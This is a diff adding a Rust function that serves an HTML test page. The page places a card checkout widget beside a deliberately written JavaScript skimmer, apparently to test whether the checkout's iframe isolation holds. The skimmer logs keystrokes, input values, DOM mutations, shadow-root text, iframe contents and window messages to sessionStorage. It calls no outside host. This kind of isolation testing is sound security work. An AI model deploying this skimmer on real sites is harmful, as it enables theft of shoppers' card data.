@@ -99,3 +99,100 @@ await init({{ module_or_path: '{wasm}' }});
         wasm = bundle.wasm,
     )
 }
+
+/// `/isolated.html?session=..&secret=..&server=..`: the checkout through checkout-server's
+/// `/checkout.js` (the card form in its frame), inside the partner's shadow DOM, on a page
+/// that also runs a skimmer. The skimmer records into `sessionStorage["stolen"]` (it outlives
+/// the 3-D Secure trip) every key and input event on the window and document, every DOM
+/// mutation (shadow roots included), every input value and text it can reach by walking shadow
+/// roots, what `iframe.contentDocument` gives, and every `message` the window receives.
+/// `/done.html` shows the result afterwards (the secret is kept as `checkout_page` keeps it).
+pub fn isolated_page() -> String {
+    r#"<!doctype html>
+<html lang="en">
+<head>
+<meta charset="utf-8">
+<title>Partner shop: checkout beside a skimmer</title>
+</head>
+<body>
+<h1>Partner shop: checkout beside a skimmer</h1>
+<div id="partner-widget"></div>
+<ol id="events"></ol>
+<script>
+// The skimmer.
+const stolen = JSON.parse(sessionStorage.getItem('stolen') || '[]');
+function note(kind, value) {
+  stolen.push(kind + ':' + String(value));
+  sessionStorage.setItem('stolen', JSON.stringify(stolen));
+}
+for (const target of [window, document]) {
+  for (const type of ['keydown', 'keyup', 'keypress', 'input', 'change', 'paste', 'beforeinput']) {
+    target.addEventListener(type, (e) => note(type, (e.key || '') + '|' + ((e.target && e.target.value) || '')), true);
+  }
+}
+const observed = new WeakSet();
+const observer = new MutationObserver((records) => {
+  for (const r of records) {
+    const node = r.target;
+    note('mutation', node.nodeType === 3 ? node.textContent : (node.outerHTML || '').slice(0, 4000));
+  }
+});
+function observe(root) {
+  if (observed.has(root)) return;
+  observed.add(root);
+  observer.observe(root, { subtree: true, childList: true, attributes: true, characterData: true });
+}
+observe(document);
+addEventListener('message', (e) => note('message', JSON.stringify(e.data)));
+setInterval(() => {
+  const roots = [document];
+  while (roots.length) {
+    const root = roots.shift();
+    for (const el of root.querySelectorAll('*')) {
+      if (el.shadowRoot) { roots.push(el.shadowRoot); observe(el.shadowRoot); note('shadow-text', el.shadowRoot.textContent); }
+      if ('value' in el && el.value) note('value', el.value);
+      if (el.localName === 'iframe') {
+        try {
+          const doc = el.contentDocument;
+          note(doc ? 'frame-document' : 'frame-null', doc ? doc.documentElement.outerHTML : '');
+        } catch (err) {
+          note('frame-blocked', err.name);
+        }
+        try { note('frame-window', el.contentWindow.document.body.innerHTML); } catch (err) { note('frame-blocked', err.name); }
+      }
+    }
+  }
+}, 100);
+</script>
+<script>
+const params = new URLSearchParams(location.search);
+const session = params.get('session');
+const secret = params.get('secret');
+const server = params.get('server');
+sessionStorage.setItem('checkout:' + session, JSON.stringify({ secret, server }));
+const loader = document.createElement('script');
+loader.src = server + '/checkout.js';
+loader.onload = () => {
+  const host = document.getElementById('partner-widget');
+  const root = host.attachShadow({ mode: 'open' });
+  const element = document.createElement('card-checkout');
+  element.setAttribute('session', session);
+  element.setAttribute('client-secret', secret);
+  element.setAttribute('locale', 'en');
+  for (const name of ['ready', 'change', 'submit', 'success', 'error', 'redirect']) {
+    element.addEventListener(name, (event) => {
+      const item = document.createElement('li');
+      item.dataset.event = name;
+      item.textContent = name + ' ' + JSON.stringify(event.detail ?? null);
+      document.getElementById('events').append(item);
+    });
+  }
+  root.append(element);
+};
+document.head.append(loader);
+</script>
+</body>
+</html>
+"#
+    .to_owned()
+}
